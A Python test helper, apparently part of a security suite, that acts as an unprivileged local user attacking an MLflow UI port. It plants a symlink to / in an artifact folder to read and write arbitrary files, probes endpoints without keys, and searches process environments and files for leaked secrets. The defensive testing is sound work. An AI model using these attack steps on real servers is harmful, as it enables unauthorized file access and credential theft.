"""What another user of the machine tries with the port of ``segan-ray ui``: run as a program.

It takes a JSON document on stdin, becomes that user, and answers with one on stdout. It imports
all it needs before, for that user may not be able to read this Python.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401 - looked up at the first connection
import http.client
import itertools
import json
import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

NOBODY = 65534
METHODS = ("GET", "POST", "DELETE")
MOST_BYTES = 1 << 20


def main() -> None:
    asked = json.load(sys.stdin)
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    tasks = {"attack": attack, "knock": knock, "search": search}
    json.dump(tasks[asked.pop("task")](**asked), sys.stdout)


def ask(
    port: int, method: str, path: str, headers: dict[str, str], body: bytes | None = None
) -> tuple[int, str]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    connection.request(method, path, body, headers)
    answer = connection.getresponse()
    found = answer.read().decode("utf-8", "replace")
    connection.close()
    return answer.status, found


def attack(port: int, headers: dict[str, str], folder: str, wanted: str, planted: str) -> Any:
    """Have artifacts in ``folder``, put a link to / there, and read and write through it."""
    answers = {"open": _opened(wanted)}
    as_json = {**headers, "Content-Type": "application/json"}

    def call(path: str, content: dict[str, str]) -> dict[str, Any]:
        body = json.dumps(content).encode()
        status, text = ask(port, "POST", f"/api/2.0/mlflow/{path}", as_json, body)
        answers[path] = [status, text]
        return dict(json.loads(text)) if status == 200 else {}

    made = call("experiments/create", {"name": "x", "artifact_location": f"file://{folder}"})
    run = call("runs/create", {"experiment_id": made.get("experiment_id", "1")})
    info = run.get("run", {}).get("info", {"run_id": "x", "artifact_uri": f"file://{folder}/x"})
    link = Path(info["artifact_uri"].removeprefix("file://"))
    if link.is_relative_to(folder):
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to("/")
    at = f"?run_id={info['run_id']}&run_uuid={info['run_id']}&path="
    answers["get"] = ask(port, "GET", f"/get-artifact{at}{wanted[1:]}", headers)
    upload = f"/ajax-api/2.0/mlflow/upload-artifact{at}{planted[1:]}"
    answers["upload"] = ask(port, "POST", upload, headers, b"planted")
    return answers


def _opened(path: str) -> list[Any]:
    try:
        return [200, Path(path).read_text()]
    except OSError as error:
        return [error.errno, str(error)]


def knock(port: int, paths: list[str], keys: list[dict[str, str]]) -> Any:
    """Ask for every path with every method and no key, and with one of the keys in turn."""
    return [
        [method, path, *ask(port, method, path, headers)]
        for path, key in zip(paths, itertools.cycle(keys), strict=False)
        for method, headers in [*((way, {}) for way in METHODS), ("GET", key)]
    ]


def search(texts: list[str], folder: str, others: list[str], since: float) -> Any:
    """Return where each of ``texts`` is: in what processes show, in ``folder``, on top of others.

    Of ``others`` files count that were changed ``since``, two folders deep.
    """
    found: dict[str, list[str]] = {text: [] for text in texts}
    for place in _places(folder, others, since):
        try:
            with place.open("rb") as stream:
                content = stream.read(MOST_BYTES)
        except OSError:
            continue
        for text in texts:
            if text.encode() in content:
                found[text].append(str(place))
    return found


def _places(folder: str, others: list[str], since: float) -> Iterator[Path]:
    for process in Path("/proc").glob("[0-9]*"):
        yield from (process / name for name in ("cmdline", "environ", "status"))
    patterns = [(folder, "**/*"), *((other, way) for other in others for way in ("*", "*/*"))]
    for top, pattern in patterns:
        for path in Path(top).glob(pattern):
            try:
                about = path.lstat()
            except OSError:
                continue
            if stat.S_ISREG(about.st_mode) and about.st_mtime >= since:
                yield path


if __name__ == "__main__":
    main()
